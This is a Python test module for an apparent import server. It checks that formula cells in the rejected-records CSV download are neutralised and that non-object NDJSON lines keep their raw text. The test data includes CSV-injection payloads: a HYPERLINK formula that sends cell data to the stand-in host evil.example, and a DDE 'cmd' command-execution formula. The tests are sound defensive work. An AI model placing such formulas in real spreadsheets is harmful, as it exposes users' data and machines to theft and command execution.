"""Hostile records in the rejected-records downloads of a real server.

The CSV download is the file people open in a spreadsheet: no cell of it may
run as a formula. A record that is not an object (an NDJSON line holding an
array or a scalar) keeps its text in ``_raw`` instead of being spread over the
columns.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import orjson

from bulkport.resources import RESOURCES
from bulkport.resources.compile import compile_validator, copy_unescape
from tests.conftest import ServerProcess
from tests.reliability.conftest import upload

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "+1+2", "-2+3", "'=already", "\t=1+1", "\r=1+1"]


def _download(srv: ServerProcess, job_id: str) -> list[dict[str, str]]:
    with srv.client() as client:
        resp = client.get(f"/v1/imports/{job_id}/errors", params={"format": "csv"})
    assert resp.status_code == 200, resp.text
    return list(csv.DictReader(io.StringIO(resp.text, newline="")))


def test_formula_cells_are_neutralised_in_the_csv_download(server: ServerProcess,
                                                           tmp_path: Path) -> None:
    # Every record is rejected (role "boss"), with a formula in each text column,
    # in the id column and in a column the resource does not know.
    records = [{"id": "u-1" if i % 2 else f, "email": f, "name": f, "role": "boss", "note": f}
               for i, f in enumerate(FORMULAS)]
    path = tmp_path / "formulas.csv"
    with path.open("w", newline="") as fh:
        writer = csv.DictWriter(fh, ["id", "email", "name", "role", "note"])
        writer.writeheader()
        writer.writerows(records)
    job = server.wait_job(upload(server.base, path).json()["job_id"])
    assert job["error_records"] == len(FORMULAS)
    rows = _download(server, str(job["job_id"]))
    assert len(rows) == len(FORMULAS)
    for row, rec in zip(rows, records, strict=True):
        for column in ("email", "name", "note"):
            assert row[column] == "'" + rec[column], (column, row[column])
            assert row[column][0] == "'"
        # A valid id is kept as the export keeps it; anything else is neutralised.
        assert row["id"] == ("u-1" if rec["id"] == "u-1" else "'" + rec["id"])
        assert row["role"] == "boss"
    # Read back by the CSV importer's rules, a text column gets the value as uploaded
    # (one apostrophe removed before = + - @); a tab or CR start keeps its apostrophe.
    columns = list(rows[0])
    validate = compile_validator(RESOURCES["users"], columns)
    name = RESOURCES["users"].column_names.index("name")
    for row, rec in zip(rows, records, strict=True):
        values, _ = validate([row[c] for c in columns])
        expected = rec["name"] if rec["name"][0] in "=+-@'" else "'" + rec["name"]
        assert copy_unescape(values[name]) == expected


def test_ndjson_lines_that_are_not_objects_keep_their_text(server: ServerProcess,
                                                           tmp_path: Path) -> None:
    lines = [b"[1,2]", b'["=1+1","b","c","d","e","f","g"]', b"42", b'"x"', b"null",
             b' {"email": "a@example.com", "name": "Ann", "role": "admin"}']
    path = tmp_path / "lines.ndjson"
    path.write_bytes(b"\n".join(lines) + b"\n")
    job = server.wait_job(upload(server.base, path).json()["job_id"])
    assert (job["successful_records"], job["error_records"]) == (1, 5)
    assert job["error_counts"] == {"malformed_record": 5}
    rows = _download(server, str(job["job_id"]))
    assert [r["_row"] for r in rows] == ["1", "2", "3", "4", "5"]
    for row, line in zip(rows, lines, strict=False):
        assert row["_raw"] == line.decode(), row
        columns = {k: v for k, v in row.items() if k not in ("_row", "_errors", "_raw")}
        assert set(columns.values()) == {""}, row  # nothing spread over the columns
        assert row["_errors"] == "malformed_record"
    with server.client() as client:
        entries = [orjson.loads(e) for e in client.get(
            f"/v1/imports/{job['job_id']}/errors", params={"format": "ndjson"}
        ).content.splitlines()]
    assert [e["record"] for e in entries] == [{"_raw": line.decode()} for line in lines[:5]]
